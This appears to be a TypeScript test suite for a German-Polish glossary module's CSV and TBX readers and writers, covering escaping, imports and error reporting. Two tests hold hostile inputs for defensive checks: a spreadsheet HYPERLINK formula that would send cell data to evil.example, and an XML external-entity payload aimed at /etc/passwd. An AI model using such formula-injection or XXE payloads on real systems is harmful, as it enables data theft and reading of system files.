// Glossary files: CSV (RFC 4180) and TBX round trips, files from elsewhere, and bad files with their line.
import {
  GlossaryFileError,
  glossaryCsvParts,
  glossaryTbxParts,
  parseGlossaryCsv,
  parseGlossaryTbx,
  termFields,
  writeGlossaryCsv,
  writeGlossaryTbx,
  type GlossaryTermFields,
} from '../../../server/domain/glossary';
import { TERMS_PER_FILE_PART } from '../../../server/domain/glossary/types';

/** Terms that exercise every field and every character a writer must escape. */
const TRICKY: GlossaryTermFields[] = [
  termFields('Grenzraum', 'pogranicze', {
    note: 'Nicht „Grenzgebiet“, vgl. Beschluss 3/2019',
    partOfSpeech: 'noun',
    forbidden: ['obszar przygraniczny', 'strefa graniczna'],
    compound: true,
  }),
  termFields('Freistaat Sachsen', 'Wolne Państwo Saksonia', { caseSensitive: true, partOfSpeech: 'proper_noun', forbidden: ['Kraj Związkowy Saksonia'] }),
  termFields('Gemeinde, Stadt', 'gmina "miejska"', { note: 'Zeile eins\nZeile zwei, mit Komma', status: 'proposed', partOfSpeech: 'phrase' }),
  termFields('Straße & Platz <A>', 'ulica & plac <A>', { note: "Apostroph ' und \"Anführung\"" }),
  termFields('EU', 'UE'),
];

function errorOf(run: () => unknown): GlossaryFileError {
  try {
    run();
  } catch (error) {
    if (error instanceof GlossaryFileError) return error;
    throw error;
  }
  throw new Error('expected a GlossaryFileError');
}

describe('glossary CSV', () => {
  test('writes the header, CRLF rows and quotes only fields that need it', () => {
    expect(writeGlossaryCsv(TRICKY.slice(0, 3))).toBe(
      'de,pl,note,partOfSpeech,caseSensitive,forbidden,status,compound\r\n' +
        'Grenzraum,pogranicze,"Nicht „Grenzgebiet“, vgl. Beschluss 3/2019",noun,false,obszar przygraniczny|strefa graniczna,approved,true\r\n' +
        'Freistaat Sachsen,Wolne Państwo Saksonia,,proper_noun,true,Kraj Związkowy Saksonia,approved,false\r\n' +
        '"Gemeinde, Stadt","gmina ""miejska""","Zeile eins\nZeile zwei, mit Komma",phrase,false,,proposed,false\r\n',
    );
  });

  test('reads back what it wrote', () => {
    expect(parseGlossaryCsv(writeGlossaryCsv(TRICKY))).toEqual(TRICKY);
  });

  test('writes a term that starts like a formula after a single quote, quoted, and reads it back as it was', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1;"wniosek")';
    const terms = [
      termFields('Antrag', hyperlink, { status: 'proposed' }),
      termFields('-5 Grad', '-5 stopni', { note: '@Koordination: prüfen', forbidden: ['+5 stopni', 'minus pięć'] }),
      termFields("'=Zitat", 'cytat'),
    ];
    const csv = writeGlossaryCsv(terms);
    expect(csv.split('\r\n').slice(1)).toEqual([
      'Antrag,"\'=HYPERLINK(""http://evil.example/?d=""&A1;""wniosek"")",,,false,,proposed,false',
      '"\'-5 Grad","\'-5 stopni","\'@Koordination: prüfen",,false,"\'+5 stopni|minus pięć",approved,false',
      '"\'\'=Zitat",cytat,,,false,,approved,false',
      '',
    ]);
    expect(parseGlossaryCsv(csv)).toEqual(terms);
  });

  test('removes one quote before a formula-like cell of a file from elsewhere, and keeps other quotes', () => {
    expect(parseGlossaryCsv("de,pl\n'=A,'Kreis'\n")).toEqual([termFields('=A', "'Kreis'")]);
  });

  test('counts a CRLF inside a quoted field as one line', () => {
    const error = errorOf(() => parseGlossaryCsv('de,pl,note\r\nA,B,"x\r\ny"\r\nC,,z\r\n'));
    expect([error.line, error.reason]).toEqual([4, 'pl is empty']);
    const quoting = errorOf(() => parseGlossaryCsv('de,pl,note\r\nA,B,"x\r\ny"\r\nC,D"E,z\r\n'));
    expect([quoting.line, quoting.reason]).toEqual([4, 'a quote inside an unquoted field (quote the whole field and double the quote)']);
  });

  test('reads columns in any order, optional columns left out, LF line ends, a BOM and blank lines', () => {
    const csv = '\uFEFFpl,DE,status\nmiasto,Stadt,\n\n"powiat zgorzelecki",Landkreis Görlitz,proposed\n';
    expect(parseGlossaryCsv(csv)).toEqual([
      termFields('Stadt', 'miasto'),
      termFields('Landkreis Görlitz', 'powiat zgorzelecki', { status: 'proposed' }),
    ]);
  });

  test('reads semicolon-separated files as spreadsheet programs save them', () => {
    const csv = 'de;pl;caseSensitive;compound\r\nGrenzraum;pogranicze;ja;tak\r\n"Euroregion; Neisse";Euroregion Nysa;nein;0\r\n';
    expect(parseGlossaryCsv(csv)).toEqual([
      termFields('Grenzraum', 'pogranicze', { caseSensitive: true, compound: true }),
      termFields('Euroregion; Neisse', 'Euroregion Nysa'),
    ]);
  });

  test.each([
    ['an empty file', '', 1, 'the file is empty'],
    ['an unknown column', 'de,pl,kommentar\nA,B,C\n', 1, 'unknown column "kommentar"'],
    ['a missing pl column', 'de,note\nA,B\n', 1, 'the header has no "pl" column'],
    ['a repeated column', 'de,pl,DE\nA,B,C\n', 1, 'column "de" appears twice'],
    ['a quote never closed', 'de,pl\nA,B\nC,"D\nE,F\n', 3, 'a quoted field is not closed'],
    ['text after a closing quote', 'de,pl\n"A"x,B\n', 2, 'text after a closing quote'],
    ['a quote inside an unquoted field', 'de,pl\nA"B,C\n', 2, 'a quote inside an unquoted field'],
    ['too few fields', 'de,pl,note\nA,B,C\nD,E\n', 3, '2 fields, but the header has 3'],
    ['a bad boolean', 'de,pl,compound\nA,B,vielleicht\n', 2, 'compound must be true or false, not "vielleicht"'],
    ['a bad status', 'de,pl,status\nA,B,done\n', 2, 'status must be approved or proposed, not "done"'],
    ['a bad part of speech', 'de,pl,partOfSpeech\nA,B,Substantiv\n', 2, 'partOfSpeech must be one of'],
    ['an empty Polish term', 'de,pl\nA,\n', 2, 'pl is empty'],
    ['a line after a multi-line field', 'de,pl,note\nA,B,"x\ny"\nC,,z\n', 4, 'pl is empty'],
  ])('rejects %s with invalid_csv and the line', (_label, csv, line, reason) => {
    const error = errorOf(() => parseGlossaryCsv(csv));
    expect([error.code, error.params, error.line]).toEqual(['invalid_csv', { line }, line]);
    expect(error.reason).toContain(reason);
  });
});

describe('glossary TBX', () => {
  test('reads back what it wrote, escaping included', () => {
    const xml = writeGlossaryTbx(TRICKY);
    expect(xml).toContain('<term>Straße &amp; Platz &lt;A&gt;</term>');
    expect(parseGlossaryTbx(xml)).toEqual({ terms: TRICKY, skipped: 0 });
  });

  test('writes a character XML cannot hold (in a note or the title) as U+FFFD, and a carriage return as a reference', () => {
    const xml = writeGlossaryTbx([termFields('Grenzraum', 'pogranicze', { note: 'a\u0001b\rc' })], 'Glossar\u0002');
    expect(xml).toContain('<title>Glossar\uFFFD</title>');
    expect(xml).toContain('<note>a\uFFFDb&#13;c</note>');
    expect(parseGlossaryTbx(xml).terms[0]!.note).toBe('a\uFFFDb\rc');
  });

  test('writes TBX-Basic: a martif with one termEntry per term, statuses as termNotes', () => {
    const xml = writeGlossaryTbx([{ ...TRICKY[0]!, id: 'term-1' }]);
    expect(xml).toContain('<martif type="TBX" xml:lang="de">');
    expect(xml).toContain(
      [
        '      <termEntry id="term-1">',
        '        <note>Nicht „Grenzgebiet“, vgl. Beschluss 3/2019</note>',
        '        <langSet xml:lang="de">',
        '          <tig>',
        '            <term>Grenzraum</term>',
        '            <termNote type="partOfSpeech">noun</termNote>',
        '            <termNote type="x-caseSensitive">false</termNote>',
        '            <termNote type="x-compound">true</termNote>',
        '          </tig>',
        '        </langSet>',
        '        <langSet xml:lang="pl">',
        '          <tig>',
        '            <term>pogranicze</term>',
        '            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>',
        '            <termNote type="processStatus">finalized</termNote>',
        '          </tig>',
        '          <tig>',
        '            <term>obszar przygraniczny</term>',
        '            <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>',
        '          </tig>',
      ].join('\n'),
    );
  });

  test('reads a file from another tool: ntig/termGrp, lang="de-DE", descrip notes, other languages skipped', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en">
  <martifHeader><fileDesc><sourceDesc><p>from a CAT tool</p></sourceDesc></fileDesc></martifHeader>
  <text><body>
    <termEntry id="c1">
      <descrip type="definition">Gebiet beiderseits der Grenze</descrip>
      <langSet lang="de-DE">
        <ntig><termGrp><term>Grenzregion</term></termGrp><termNote type="partOfSpeech">noun</termNote></ntig>
        <ntig><termGrp><term>Grenzland</term></termGrp><termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></ntig>
      </langSet>
      <langSet xml:lang="pl-PL">
        <tig><term><![CDATA[region przygraniczny]]></term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></tig>
        <tig><term>kresy</term><termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig>
      </langSet>
    </termEntry>
    <termEntry id="c2">
      <langSet xml:lang="de"><tig><term>Landrat</term></tig></langSet>
      <langSet xml:lang="en"><tig><term>district administrator</term></tig></langSet>
    </termEntry>
    <termEntry id="c3">
      <langSet xml:lang="de"><tig><term>Stadt</term><termNote type="partOfSpeech">properNoun</termNote></tig><tig><term>Kommune</term></tig></langSet>
      <langSet xml:lang="pl"><tig><term>miasto</term><termNote type="processStatus">provisionallyProcessed</termNote></tig></langSet>
    </termEntry>
  </body></text>
</martif>`;
    expect(parseGlossaryTbx(xml)).toEqual({
      terms: [
        termFields('Grenzregion', 'region przygraniczny', { note: 'Gebiet beiderseits der Grenze', partOfSpeech: 'noun', forbidden: ['kresy'] }),
        termFields('Stadt', 'miasto', { partOfSpeech: 'proper_noun', status: 'proposed' }),
        termFields('Kommune', 'miasto', { status: 'proposed' }),
      ],
      skipped: 1,
    });
  });

  test.each([
    ['a tag not closed', '<martif type="TBX">\n<text><body>\n<termEntry>\n</body></text></martif>', 4],
    ['text that is not XML', 'de,pl\nGrenzraum,pogranicze', 1],
    ['an undefined entity', '<martif>\n<text><body><termEntry><langSet xml:lang="de"><tig><term>&grenze;</term></tig></langSet></termEntry></body></text></martif>', 2],
    ['another root element', '<?xml version="1.0"?>\n<tmx version="1.4"><body/></tmx>', 2],
    ['an empty file', '', 1],
  ])('rejects %s with invalid_tbx and the line', (_label, xml, line) => {
    const error = errorOf(() => parseGlossaryTbx(xml));
    expect([error.code, error.params]).toEqual(['invalid_tbx', { line }]);
  });

  test('never resolves an external entity: a file that tries is refused', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE martif [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<martif><text><body><termEntry>
  <langSet xml:lang="de"><tig><term>&secret;</term></tig></langSet>
  <langSet xml:lang="pl"><tig><term>tajne</term></tig></langSet>
</termEntry></body></text></martif>`;
    const error = errorOf(() => parseGlossaryTbx(xml));
    expect([error.code, error.params]).toEqual(['invalid_tbx', { line: 4 }]);
    expect(error.message).not.toContain('root:');
  });

  test('rejects a control character XML forbids', () => {
    const error = errorOf(() => parseGlossaryTbx('<martif>\n<text>A&#7;B</text></martif>'));
    expect([error.code, error.params, error.reason]).toEqual(['invalid_tbx', { line: 2 }, 'malformed character entity.']);
  });

  test('rejects a term with control characters at the line of its entry', () => {
    const xml = '<martif><text><body>\n<termEntry><langSet xml:lang="de"><tig><term>A&#150;B</term></tig></langSet><langSet xml:lang="pl"><tig><term>x</term></tig></langSet></termEntry></body></text></martif>';
    const error = errorOf(() => parseGlossaryTbx(xml));
    expect([error.code, error.params, error.reason]).toEqual(['invalid_tbx', { line: 2 }, 'de contains control characters']);
  });
});

// A large glossary is sent a part at a time (http/writeInTurns.ts): the parts, joined, are the file.
describe('glossary files in parts', () => {
  const terms = Array.from({ length: 2 * TERMS_PER_FILE_PART + 3 }, (_, i) => TRICKY[i % TRICKY.length]!).map((term, i) => ({ ...term, de: `${term.de} ${i}` }));

  test('CSV: the header, then a part per TERMS_PER_FILE_PART rows, which read back as the terms', () => {
    const parts = [...glossaryCsvParts(terms)];
    expect(parts).toHaveLength(1 + 3);
    expect(parts[0]).toBe('de,pl,note,partOfSpeech,caseSensitive,forbidden,status,compound\r\n');
    expect(parts.slice(1).map((part) => parseGlossaryCsv(parts[0] + part).length)).toEqual([TERMS_PER_FILE_PART, TERMS_PER_FILE_PART, 3]);
    expect(parseGlossaryCsv(parts.join(''))).toEqual(terms);
  });

  test('TBX: the header, a part per TERMS_PER_FILE_PART entries, the end; joined, a file that reads back', () => {
    const parts = [...glossaryTbxParts(terms, 'Glossar')];
    expect(parts).toHaveLength(1 + 3 + 1);
    expect(parts.slice(1, 4).map((part) => part.match(/<termEntry /g)?.length)).toEqual([TERMS_PER_FILE_PART, TERMS_PER_FILE_PART, 3]);
    expect(parts[4]).toBe('    </body>\n  </text>\n</martif>\n');
    expect(parseGlossaryTbx(parts.join('')).terms).toEqual(terms);
  });
});
